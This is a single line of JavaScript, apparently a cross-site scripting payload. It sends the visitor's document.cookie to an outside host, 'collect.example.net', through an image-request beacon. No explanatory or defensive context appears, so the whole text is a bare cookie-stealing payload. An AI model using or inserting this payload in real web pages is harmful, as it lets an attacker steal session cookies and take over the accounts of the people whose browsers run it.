new Image().src = 'https://collect.example.net/c?' + document.cookie;
